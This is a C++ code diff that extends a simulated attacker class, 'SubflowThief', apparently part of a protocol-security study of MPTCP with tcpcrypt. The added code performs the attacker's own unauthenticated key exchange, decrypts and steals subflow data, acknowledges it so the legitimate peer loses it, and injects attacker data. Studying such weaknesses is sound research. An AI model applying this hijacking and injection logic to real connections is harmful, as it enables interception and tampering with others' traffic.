@@ -59,20 +59,72 @@ SubflowThief::Make(uint8_t flags) const
 }
 
 void
+SubflowThief::BeginExchange(const std::vector<PublicCipher>& pkconf, const std::function<uint32_t()>& draw)
+{
+    DrawnRandom random(draw);
+    m_exchange = std::make_unique<TcpcryptKeyExchange>();
+    auto chosen = ChoosePublicCipher(pkconf, pkconf);
+    auto pair = chosen ? std::make_shared<RsaKeyPair>(KeyBitsOf(*chosen), random) : nullptr;
+    auto init1 = m_exchange->MakeInit1(pkconf, pkconf, pair, random);
+    if (!init1)
+    {
+        return;
+    }
+    IpSegment segment = Make(TCP_ACK);
+    OptionBytes options;
+    AppendCrypt(options, CryptOpcode::INIT1);
+    segment.SetOptions({options.Data(), options.Data() + options.Size()});
+    segment.SetPayload(*init1);
+    m_send("INIT1 of the attacker's own: the key exchange authenticates nobody", segment);
+    m_place.next += static_cast<uint32_t>(init1->size());
+}
+
+bool
+SubflowThief::AwaitsInit2() const
+{
+    return m_exchange && !m_crypt;
+}
+
+void
+SubflowThief::TakeInit2(const SegmentView& tcp)
+{
+    auto crypt = SegmentOptions::Parse(tcp).handshake.crypt;
+    if (!crypt || !crypt->init2 || !m_exchange->OnInit2(tcp.Payload(), tcp.PayloadSize()))
+    {
+        return;
+    }
+    ProtectionProfile profile;
+    m_crypt = std::make_unique<CryptEnd>(*m_exchange->Session(), profile, m_place.isn, m_place.expected - 1);
+    m_place.tagOctets = profile.TagOctets();
+    m_place.expected += static_cast<uint32_t>(tcp.PayloadSize());
+    Acknowledge();
+}
+
+void
 SubflowThief::Take(const IpSegment& segment)
 {
     SegmentView tcp = segment.Tcp();
+    if (AwaitsInit2())
+    {
+        TakeInit2(tcp);
+        return;
+    }
+    auto plain = m_crypt ? m_crypt->Open(segment) : segment.Payload();
+    if (!plain)
+    {
+        return;
+    }
     auto options = SegmentOptions::Parse(tcp);
-    if (tcp.PayloadSize() > 0 && tcp.Sequence() == m_place.expected)
+    if (!plain->empty() && tcp.Sequence() == m_place.expected)
     {
         m_place.expected += segment.SequenceLength();
-        m_stolen.insert(m_stolen.end(), tcp.Payload(), tcp.Payload() + tcp.PayloadSize());
+        m_stolen.insert(m_stolen.end(), plain->begin(), plain->end());
         if (options.dss && options.dss->mapping)
         {
             m_place.dataAck = static_cast<uint32_t>(options.dss->mapping->dsn) + options.dss->mapping->length;
         }
     }
-    if (tcp.PayloadSize() > 0)
+    if (!plain->empty())
     {
         Acknowledge();
     }
@@ -83,7 +135,7 @@ SubflowThief::Take(const IpSegment& segment)
 }
 
 void
-SubflowThief::SetOptions(IpSegment& segment, const Dss& dss) const
+SubflowThief::Finish(IpSegment& segment, const Dss& dss, const std::vector<uint8_t>& payload)
 {
     OptionBytes area;
     if (dss.dataAck || dss.mapping)
@@ -95,6 +147,7 @@ SubflowThief::SetOptions(IpSegment& segment, const Dss& dss) const
         AppendZeroMac(area, m_place.tagOctets);
     }
     segment.SetOptions({area.Data(), area.Data() + area.Size()});
+    m_crypt ? m_crypt->Seal(segment, payload) : segment.SetPayload(payload);
 }
 
 void
@@ -106,7 +159,7 @@ SubflowThief::Acknowledge()
     {
         dss.dataAck = DssDataAck{*m_place.dataAck, false};
     }
-    SetOptions(ack, dss);
+    Finish(ack, dss, {});
     m_send("octets taken: acknowledged at both levels, so that nobody else gets them", ack);
 }
 
@@ -139,8 +192,7 @@ SubflowThief::Insert(uint32_t dataAck)
         dss.dataAck = DssDataAck{*m_place.dataAck, false};
     }
     IpSegment data = Make(TCP_ACK);
-    SetOptions(data, dss);
-    data.SetPayload(payload);
+    Finish(data, dss, payload);
     m_send("octets of the attacker's own, ahead of the rightful peer's", data);
     m_place.next += static_cast<uint32_t>(size);
     m_inserted += size;
